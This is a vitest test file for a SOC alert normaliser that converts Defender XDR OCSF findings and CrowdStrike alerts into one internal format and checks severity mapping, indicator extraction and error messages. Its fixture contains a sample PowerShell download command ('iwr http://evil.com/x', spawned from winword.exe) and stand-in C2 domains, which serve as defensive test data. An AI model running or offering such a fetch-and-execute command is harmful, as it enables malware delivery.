import { describe, expect, it } from "vitest";
import { Alert } from "../../src/events/alert-events.ts";
import { caseIdOf } from "../../src/events/ids.ts";
import { alertsIn, normaliseAlert } from "../../vendors/normalise.ts";
import { fixtureLines } from "../fixtures/read.ts";

const finding = {
  class_uid: 2004,
  category_uid: 2,
  severity_id: 4,
  time: 1_794_816_847_328,
  metadata: { version: "1.5.0", product: { name: "Defender XDR", vendor_name: "Microsoft" } },
  finding_info: {
    uid: "da637-42",
    title: "Suspicious PowerShell",
    desc: "PowerShell fetched content.",
    src_url: "https://security.example/alerts/da637-42",
    analytic: { uid: "r-17", name: "SuspiciousPowerShell" },
    attacks: [
      { tactic: { name: "Execution" }, technique: { uid: "T1059" }, sub_technique: { uid: "T1059.001" } },
    ],
  },
  device: { hostname: "FIN-WS-042", uid: "d-1", ip: "192.0.2.42", os: { name: "Windows 11" } },
  disposition: "Blocked",
  actor: { user: { name: "j.doe", uid: "S-1-5-21-1" } },
  evidences: [
    {
      process: {
        name: "powershell.exe",
        cmd_line: "powershell -c iwr http://evil.com/x",
        parent_process: { cmd_line: "winword.exe" },
        file: {
          path: "C:\\Windows\\powershell.exe",
          hashes: [
            { algorithm_id: 3, value: "AB".repeat(32) },
            { algorithm_id: 1, value: "cd".repeat(16) },
          ],
        },
      },
      dst_endpoint: { ip: "203.0.113.7" },
      query: { hostname: "c2.evil.com" },
    },
  ],
  observables: [
    { type_id: 2, value: "203.0.113.9" },
    { type_id: 7, value: "evil.zip.com" },
    { type_id: 8, value: "ef".repeat(20) },
  ],
};
const own = {
  source: "lab",
  sourceId: "1",
  rule: { id: "r", name: "Rule" },
  title: "T",
  severity: "low",
  time: "2026-11-16T08:00:00Z",
};

describe("an OCSF Detection Finding", () => {
  const alert = normaliseAlert(finding);

  it("becomes an alert with everything in its place", () => {
    expect(Alert.safeParse(alert).error).toBeUndefined();
    expect(alert).toMatchObject({
      source: "defender-xdr",
      sourceId: "da637-42",
      caseId: caseIdOf({ source: "defender-xdr", sourceId: "da637-42" }),
      rule: { id: "r-17", name: "SuspiciousPowerShell" },
      severity: "high",
      time: new Date(finding.time).toISOString(),
      host: { name: "FIN-WS-042", id: "d-1", ip: "192.0.2.42", os: "Windows 11" },
      user: { name: "j.doe" },
      process: { fileName: "powershell.exe", parent: "winword.exe", sha256: "AB".repeat(32) },
      techniques: ["T1059.001", "T1059"],
      disposition: "Blocked",
      tactic: "Execution",
    });
    expect(alert.raw).toEqual(finding);
  });

  it("yields its observables and evidence as indicators, never a file name", () => {
    expect(alert.indicators.map(({ type, value }) => `${type} ${value}`)).toEqual([
      "ipv4 203.0.113.9",
      `sha1 ${"ef".repeat(20)}`,
      "url http://evil.com/x",
      "domain evil.com",
      `sha256 ${"ab".repeat(32)}`,
      "ipv4 203.0.113.7",
      "domain c2.evil.com",
    ]);
  });

  it("of another class, or without id or time, is refused by that name", () => {
    expect(() => normaliseAlert({ ...finding, class_uid: 2001 })).toThrow(/class_uid: expected 2004.*2001/);
    expect(() => normaliseAlert({ ...finding, finding_info: {} })).toThrow(/finding_info\.uid/);
    expect(() => normaliseAlert({ ...finding, time: "soon" })).toThrow(/time: expected.*soon/);
  });

  it("of unknown severity is medium, of fatal critical", () => {
    expect([0, 99, 6, 1].map((severity_id) => normaliseAlert({ ...finding, severity_id }).severity)).toEqual([
      "medium",
      "medium",
      "critical",
      "informational",
    ]);
  });
});

describe("shapes", () => {
  const falcon = fixtureLines("alerts.jsonl")[0];

  it("are told apart by themselves, wrapped or not", () => {
    expect(normaliseAlert(falcon).source).toBe("crowdstrike");
    expect(normaliseAlert({ source: "crowdstrike", raw: falcon })).toEqual(normaliseAlert(falcon));
    expect(normaliseAlert({ source: "xdr", raw: finding }).source).toBe("xdr");
    expect(normaliseAlert(own)).toMatchObject({
      ...own,
      caseId: caseIdOf(own),
      techniques: [],
      indicators: [],
    });
  });

  it("read an alert that was normalised before as itself", () => {
    const once = normaliseAlert(falcon);
    expect(normaliseAlert(JSON.parse(JSON.stringify(once)))).toEqual(once);
  });

  it("refuse a case id that does not follow from source and id, and an unknown field", () => {
    expect(() => normaliseAlert({ ...own, caseId: "CASE-0000000000" })).toThrow(/caseId: expected CASE-/);
    expect(() => normaliseAlert({ ...own, severity: "bad" })).toThrow(/severity/);
    expect(() => normaliseAlert({ ...own, extra: 1 })).toThrow(/extra/);
  });

  it.each([
    [null, "found null"],
    ["text", "found a string"],
    [[1, 2], "found a list of 2"],
    [{}, "found an empty object"],
    [{ a: 1, b: 2 }, "found an object with a, b"],
    [{ source: "x", raw: { a: 1 } }, "found an object with a"],
  ])("that are none are named: %j", (input, message) => {
    expect(() => normaliseAlert(input)).toThrow(message);
    expect(() => normaliseAlert(input)).toThrow(/composite_id.*2004/);
  });

  it("come one by one, as a list and as an API answer", () => {
    expect(alertsIn({ a: 1 })).toEqual([{ a: 1 }]);
    expect(alertsIn([1, 2])).toEqual([1, 2]);
    expect(alertsIn({ meta: {}, errors: [], resources: [{ a: 1 }] })).toEqual([{ a: 1 }]);
  });
});
